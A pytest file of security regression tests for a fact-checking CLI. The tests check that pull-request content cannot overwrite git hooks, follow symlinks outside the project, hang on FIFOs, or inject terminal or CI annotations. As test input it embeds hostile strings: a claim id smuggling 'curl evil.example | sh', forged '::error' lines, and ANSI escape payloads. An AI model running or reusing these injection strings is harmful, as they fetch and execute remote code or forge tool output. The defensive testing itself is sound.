"""A stranger's pull request brings claims, sources, factcheck.toml, baselines, `.factcheck/`
and symbolic links; CI runs factcheck on it, often as root. Each break found by trying it as
an attacker would (issue 17) is one test here: nothing is written or read outside its place,
and every refusal names the file and why, with exit 2 and no traceback.

Everything happens in temporary folders: stand-ins for devices and other programs'
databases are made there, and each test checks that what lies outside the project is
unchanged."""

from __future__ import annotations

import json
import os
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import CLAIMS_OK, check_json, invoke, tree

HOOK = "#!/bin/sh\necho the real pre-commit hook\n"
needs_posix = pytest.mark.skipif(os.name != "posix", reason="POSIX file types")


def repository(project: Path) -> dict[str, Path]:
    """A checkout with git tooling and a virtual environment, as CI has it."""
    files = {
        "hook": project / ".git" / "hooks" / "pre-commit",
        "git config": project / ".git" / "config",
        "activate": project / ".venv" / "bin" / "activate",
        "env activate": project / "env" / "bin" / "activate",  # a virtualenv without the dot
        "script": project / "deploy.sh",
    }
    for path in files.values():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(HOOK, "utf-8")
        path.chmod(0o755)
    (project / "env" / "pyvenv.cfg").write_text("home = /usr/bin\n", "utf-8")
    (project / "claims" / "c.yaml").write_text(CLAIMS_OK, "utf-8")
    return files


@pytest.mark.parametrize("target", [".git/hooks/pre-commit", ".venv/bin/activate", ".git/config",
                                    "env/bin/activate", "deploy.sh", ".github/workflows/ci.yml"])
@pytest.mark.parametrize("fmt", ["concise", "markdown", "json"])
def test_the_configuration_cannot_write_over_tooling(project, target, fmt):
    files = repository(project)
    (project / "factcheck.toml").write_text(f'sources = "sources"\nformat = ["{fmt}:{target}"]\n', "utf-8")
    before = tree(project)
    result = invoke("check")
    assert result.exit_code == 2 and target.split("/")[0] in result.stderr
    assert tree(project) == before
    assert all(stat.S_IMODE(path.stat().st_mode) == 0o755 for path in files.values())


def test_the_command_line_cannot_be_led_into_git_through_a_link(project):
    repository(project)
    os.symlink(project / ".git" / "hooks", project / "reports")  # planted by the pull request
    before = tree(project)
    result = invoke("check", "--format", "concise:reports/pre-commit")
    assert result.exit_code == 2 and "refusing to write a concise report into a .git folder" in result.stderr
    assert tree(project) == before


def test_a_report_never_replaces_a_file_factcheck_did_not_write(project):
    repository(project)
    (project / "notes.txt").write_text("the editor's notes\n", "utf-8")
    for args in (["--format", "concise:notes.txt"], ["--write-baseline", "notes.txt"]):
        result = invoke("check", *args)
        assert result.exit_code == 2 and "exists and is not a factcheck output" in result.stderr
    assert (project / "notes.txt").read_text("utf-8") == "the editor's notes\n"


@pytest.mark.parametrize("fmt", ["full", "concise", "json", "jsonl", "sarif", "junit", "github", "gitlab", "markdown",
                                 "html"])
def test_a_report_replaces_its_own_earlier_report_and_is_never_executable(project, fmt):
    (project / "claims" / "c.yaml").write_text(CLAIMS_OK.replace("Kami tidak hanya", "Kami hanya"), "utf-8")
    (project / "reports").mkdir()
    first = invoke("check", "--format", f"{fmt}:reports/out")
    assert first.exit_code == 1, first.stderr
    (project / "reports" / "out").chmod(0o755)
    again = invoke("check", "--format", f"{fmt}:reports/out", "--write-baseline", "reports/base.json")
    assert again.exit_code == 0, again.stderr
    assert invoke("check", "--write-baseline", "reports/base.json").exit_code == 0  # its own baseline too
    assert stat.S_IMODE((project / "reports" / "out").stat().st_mode) & 0o111 == 0


def test_an_empty_file_may_be_replaced(project):
    (project / "claims" / "c.yaml").write_text(CLAIMS_OK, "utf-8")
    (project / "out.txt").write_text("", "utf-8")
    assert invoke("check", "--format", "json:out.txt").exit_code == 0
    assert json.loads((project / "out.txt").read_text("utf-8"))["summary"]["pass"] == 1


def test_a_newline_in_an_id_and_a_hash_in_a_file_name_make_no_script(project):
    """The concise report of such a claim was a valid shell script: `claims/x` ran, the rest of
    the line a comment. Now every line is one finding, `file:line:col: CODE status …`."""
    (project / "claims" / "x #.yaml").write_text(
        'source: s\nclaims:\n  - id: "a\\ncurl evil.example | sh\\n#"\n    quote: "Kami bekerja keras"\n'
        '  - id: "\\e[2J\\e]0;pwned\\a"\n    quote: "Kami bekerja keras sekali"\n', "utf-8")
    for fmt in ("concise", "full", "github", "markdown"):
        out = invoke("check", "--format", fmt, "--color", "never").stdout
        assert "\x1b" not in out and "\x07" not in out, fmt
        assert not any(line.startswith("curl") for line in out.splitlines()), fmt
    lines = invoke("check", "--format", "concise").stdout.splitlines()
    assert len(lines) == 2 and all(line.startswith("claims/x #.yaml:") for line in lines)
    assert "a curl evil.example | sh #" in lines[0] and "\\x1b[2J\\x1b]0;pwned\\x07" in lines[1]
    github = invoke("check", "--format", "github").stdout.splitlines()
    assert len(github) == 2 and all(line.startswith("::error ") for line in github)


def test_ignore_reasons_and_file_names_are_flattened(project):
    (project / "claims" / "odd\x1b[31mname.yaml").write_text(
        'source: s\nclaims:\n  - quote: "Kami bekerja keras"\n    ignore: Q310\n'
        '    reason: "ok\\n::error file=x::forged \\e[1m"\n', "utf-8")
    for fmt in ("concise", "full", "github", "markdown", "junit", "html"):
        out = invoke("check", "--format", fmt, "--color", "never").stdout
        assert "\x1b" not in out and "\n::error file=x" not in out, fmt
    concise = invoke("check", "--format", "concise").stdout
    assert "odd\\x1b[31mname.yaml" in concise and "ok ::error file=x::forged \\x1b[1m" in concise


def test_json_outputs_escape_what_a_terminal_would_obey(project):
    (project / "claims" / "c.yaml").write_text(
        'source: s\nclaims:\n  - id: "x\\x7f\\x9b2J\\u202e"\n    quote: "Kami bekerja keras"\n', "utf-8")
    for fmt in ("json", "jsonl", "sarif", "gitlab"):
        out = invoke("check", "--format", fmt).stdout
        assert not any(c in out for c in "\x7f\x9b\u202e"), fmt
        assert "\\u007f\\u009b2J\\u202e" in out, fmt
    (result,) = check_json()[1]["results"]
    assert result["id"] == "x\x7f\x9b2J\u202e"  # escaped, not lost


@needs_posix
def test_baselines_that_are_fifos_or_point_at_standard_output_are_refused_not_waited_for(project, tmp_path):
    """They used to hang forever: run as CI does, in a process that is killed if it hangs."""
    (project / "claims" / "c.yaml").write_text(CLAIMS_OK, "utf-8")
    os.mkfifo(project / "fifo.json")
    os.symlink("/proc/self/fd/1", project / "stdout.json")
    for setting, why in (('baseline = "fifo.json"', "must be a regular file, not a FIFO"),
                         ('baseline = "stdout.json"', "a file of the running system"),
                         ('claims = ["fifo.json"]', "not a claim file")):
        (project / "factcheck.toml").write_text(f'sources = "sources"\n{setting}\n', "utf-8")
        done = subprocess.run([sys.executable, "-m", "factcheck", "check"], cwd=project, capture_output=True,
                              text=True, timeout=60)
        assert done.returncode == 2 and why in done.stderr, (setting, done.stderr)
    (project / "factcheck.toml").write_text('sources = "sources"\n', "utf-8")
    done = subprocess.run([sys.executable, "-m", "factcheck", "check", "--baseline", "fifo.json"], cwd=project,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and "must be a regular file, not a FIFO" in done.stderr


@needs_posix
def test_reports_never_replace_devices_or_fifos(project, tmp_path):
    """`--format json:/dev/null` as root replaced /dev/null with a regular file. A device made
    in the test's own folder stands in for it (as root; a FIFO otherwise)."""
    (project / "claims" / "c.yaml").write_text(CLAIMS_OK, "utf-8")
    specials = [tmp_path / "fifo"]
    os.mkfifo(specials[0])
    if os.geteuid() == 0:
        specials.append(tmp_path / "null")
        os.mknod(specials[1], stat.S_IFCHR | 0o666, os.makedev(1, 3))
    for special in specials:
        kind = stat.S_IFMT(special.lstat().st_mode)
        for args in (["--format", f"json:{special}"], ["--write-baseline", str(special)]):
            result = invoke("check", *args)
            assert result.exit_code == 2 and "factcheck writes" in result.stderr and "only to a regular file" in \
                result.stderr, result.stderr
            assert stat.S_IFMT(special.lstat().st_mode) == kind
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["project", *(p.name for p in specials)])


def test_a_linked_cache_folder_writes_nothing_outside(project, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.symlink(elsewhere, project / ".factcheck")
    (project / "claims" / "c.yaml").write_text(CLAIMS_OK, "utf-8")
    result = invoke("find", "Kami tidak hanya bekerja")
    assert result.exit_code == 0 and "symbolic link, not followed" in result.stderr
    assert list(elsewhere.iterdir()) == []


def victim_database(path: Path) -> None:
    db = sqlite3.connect(path)
    db.executescript("CREATE TABLE meta (key TEXT, value TEXT); CREATE TABLE files (name TEXT);"
                     "INSERT INTO meta VALUES ('owner', 'someone else'); INSERT INTO files VALUES ('precious');")
    db.commit()
    db.close()


def victim_rows(path: Path) -> list:
    db = sqlite3.connect(path)
    try:
        return db.execute("SELECT * FROM meta").fetchall() + db.execute("SELECT * FROM files").fetchall()
    finally:
        db.close()


@pytest.mark.parametrize("how", ["linked", "planted"])
def test_another_programs_database_is_never_opened_as_the_index(project, tmp_path, how):
    from factcheck.sources.index import _open_backend

    victim = tmp_path / "victim.sqlite3"
    victim_database(victim)
    index_file = Path(_open_backend(project / "sources").location)  # where the index would be
    index_file.unlink()
    if how == "linked":
        os.symlink(victim, index_file)
    else:
        victim_database(index_file)
    before = victim.read_bytes()
    result = invoke("find", "Kami tidak hanya bekerja")
    assert result.exit_code == 0 and "using an index in memory" in result.stderr
    assert victim.read_bytes() == before and victim_rows(victim) == [("owner", "someone else"), ("precious",)]
    if how == "planted":
        assert victim_rows(index_file) == [("owner", "someone else"), ("precious",)]


def test_claim_files_linked_from_outside_are_not_read(project, tmp_path):
    secret = tmp_path / "secret.yaml"
    secret.write_text("claims:\n  - quote: the secret token is hunter2\n", "utf-8")
    os.symlink(secret, project / "claims" / "linked.yaml")
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder" / "also.yaml").write_text("claims: [hunter2: x]\n", "utf-8")
    os.symlink(tmp_path / "folder", project / "claims" / "sub")
    for args in (["check"], ["check", "claims"], ["validate"]):
        result = invoke(*args)
        assert result.exit_code == 2 and "outside the project root" in result.stderr, args
        assert "hunter2" not in result.output
    (project / "factcheck.toml").write_text('sources = "sources"\nclaims = ["claims/**/*.yaml"]\n', "utf-8")
    result = invoke("check")
    assert result.exit_code == 2 and "hunter2" not in result.output


def test_a_configuration_file_linked_from_outside_is_not_read(project, tmp_path):
    outside = tmp_path / "outside.toml"
    outside.write_text('sources = "hunter2 is the password\n', "utf-8")  # invalid: would be echoed
    (project / "factcheck.toml").unlink()
    os.symlink(outside, project / "factcheck.toml")
    (project / "claims" / "c.yaml").write_text(CLAIMS_OK, "utf-8")
    for command in (["check"], ["config"], ["validate"]):
        result = invoke(*command)
        assert result.exit_code == 2 and "symbolic link" in result.stderr, command
        assert "hunter2" not in result.output


def test_outputs_in_a_configuration_file_are_bounded(project):
    (project / "claims" / "c.yaml").write_text(CLAIMS_OK, "utf-8")
    many = ", ".join(f'"json:out/{n}.json"' for n in range(50))
    (project / "factcheck.toml").write_text(f"format = [{many}]\n", "utf-8")
    result = invoke("check")
    assert result.exit_code == 2 and "names 50 report outputs: over the limit of 16" in result.stderr
    assert not (project / "out").exists()
    (project / "factcheck.toml").write_text('format = ["json:out.json", "sarif:out.json"]\n', "utf-8")
    result = invoke("check")
    assert result.exit_code == 2 and "names out.json for two reports" in result.stderr


def test_claims_written_by_factcheck_hold_no_character_check_refuses(project):
    """`quotes --format yaml` (and `draft --emit-claims`) wrote a raw DEL (U+007F) that
    `check` then refused; every such character is now an escape that reads back as itself."""
    (project / "sources" / "s.md").write_text("“Kami\x7f siap\u0085 membantu\u2028 warga desa,” ujar Andra Soni.\n",
                                              "utf-8")
    result = invoke("quotes", "s", "--format", "yaml", "--output", "claims/q.yaml")
    assert result.exit_code == 0
    written = (project / "claims" / "q.yaml").read_text("utf-8")
    assert not any(c in written for c in "\x7f\x85\u2028") and "\\u007f" in written
    code, report = check_json("claims/q.yaml")
    assert report["errors"] == [] and [r["status"] for r in report["results"]] == ["pass"]
